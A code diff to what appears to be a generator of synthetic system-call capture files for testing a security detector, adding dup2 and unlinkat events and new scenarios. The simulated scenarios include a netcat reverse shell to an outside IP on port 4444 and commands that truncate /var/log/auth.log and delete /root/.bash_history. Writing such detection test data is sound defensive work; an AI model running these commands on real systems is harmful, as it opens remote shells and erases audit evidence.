@@ -629,7 +629,8 @@ typedef struct gen {
 
 static const char *const KIND_NAMES[VG_CAPGEN__COUNT] = {
     "web_shell", "term_shell", "pkg_mgr",    "shadow",
-    "bin_write", "connect",    "host_spawn", "ssh_keys"};
+    "bin_write", "connect",    "host_spawn", "ssh_keys",
+    "log_clear", "history_del"};
 
 const char *vg_capgen_kind_name(int k) {
   return k >= 0 && k < VG_CAPGEN__COUNT ? KIND_NAMES[k] : NULL;
@@ -999,6 +1000,43 @@ static void sc_sendrecv(gen *g, gproc *p, gfd *f, int send) {
       vg_capw_p_u64(g->w, (uint64_t)f->fd);
       vg_capw_p_u32(g->w, size);
     }
+    end(g);
+  }
+}
+
+/* dup2(OLDFD, NEWFD): NEWFD becomes a copy of OLDFD. Written as the
+ * driver's legacy dup pair (124/125: enter with the old fd, exit with the
+ * new one), the only dup events sysdig 0.29.3 knows (dup2 362/363 came
+ * later); current libscap upgrades the pair to dup (366/367). The enter
+ * event carries the old fd, so it is kept in exit-only mode too. */
+static void sc_dup2(gen *g, gproc *p, gfd *old, int64_t newfd) {
+  if (ev(g, p->tid, 124)) {
+    vg_capw_p_u64(g->w, (uint64_t)old->fd);
+    end(g);
+  }
+  if (ev(g, p->tid, 125)) {
+    vg_capw_p_u64(g->w, (uint64_t)newfd);
+    end(g);
+  }
+  gfd copy = *old;
+  copy.fd = newfd;
+  for (int i = 0; i < p->nfd; i++)
+    if (p->fd[i].fd == newfd) {
+      p->fd[i] = copy;
+      return;
+    }
+  if (p->nfd < G_MAXFD)
+    p->fd[p->nfd++] = copy;
+}
+
+static void sc_unlinkat(gen *g, gproc *p, const char *path) {
+  if (ev_e(g, p->tid, 302))
+    end(g);
+  if (ev(g, p->tid, 303)) {
+    vg_capw_p_u64(g->w, 0);
+    vg_capw_p_u64(g->w, (uint64_t)(int64_t)AT_FDCWD_);
+    vg_capw_p_str(g->w, path);
+    vg_capw_p_u32(g->w, 0);
     end(g);
   }
 }
@@ -1779,7 +1817,13 @@ static void scenario(gen *g, int k) {
       gproc *nc = spawn(g, sh, "/usr/bin/nc", "nc",
                         "185.220.101.45\n4444\n-e\n/bin/sh", -2, 0);
       if (nc) {
-        outbound(g, nc, PUBLIC_IPS[1], 4444);
+        gfd *s = sc_socket(g, nc);
+        if (s) {
+          sc_connect(g, nc, s, PUBLIC_IPS[1], 4444);
+          for (int64_t fd = 0; fd < 3; fd++)
+            sc_dup2(g, nc, s, fd);
+          sc_sendrecv(g, nc, s, 0);
+        }
         sc_procexit(g, nc);
       }
       sc_procexit(g, sh);
@@ -1831,13 +1875,35 @@ static void scenario(gen *g, int k) {
     else if ((p = find_role(g, R_PYTHON, -1)))
       touch_file(g, p, "/home/alice/.ssh/id_rsa", 0);
     break;
+  case VG_CAPGEN_LOG_CLEAR:
+    p = find_role(g, R_ROOTSH, -1);
+    if (!p)
+      break;
+    sh = spawn(g, p, "/usr/bin/truncate", "truncate",
+               "-s\n0\n/var/log/auth.log", -2, p->tty);
+    if (sh) {
+      touch_file(g, sh, "/var/log/auth.log", 1);
+      sc_procexit(g, sh);
+    }
+    break;
+  case VG_CAPGEN_HISTORY_DEL:
+    p = find_role(g, R_ROOTSH, -1);
+    if (!p)
+      break;
+    sh = spawn(g, p, "/usr/bin/rm", "rm", "-f\n/root/.bash_history", -2,
+               p->tty);
+    if (sh) {
+      sc_unlinkat(g, sh, "/root/.bash_history");
+      sc_procexit(g, sh);
+    }
+    break;
   default:
     break;
   }
 }
 
-static const uint32_t DEFAULT_WEIGHTS[VG_CAPGEN__COUNT] = {10, 8,  5,  10,
-                                                           5,  15, 40, 7};
+static const uint32_t DEFAULT_WEIGHTS[VG_CAPGEN__COUNT] = {
+    10, 8, 5, 10, 5, 15, 40, 7, 3, 3};
 
 vigil_status vg_capgen_write(const char *path, const vg_capgen_opts *o,
                              vg_capgen_stats *stats, char *err,
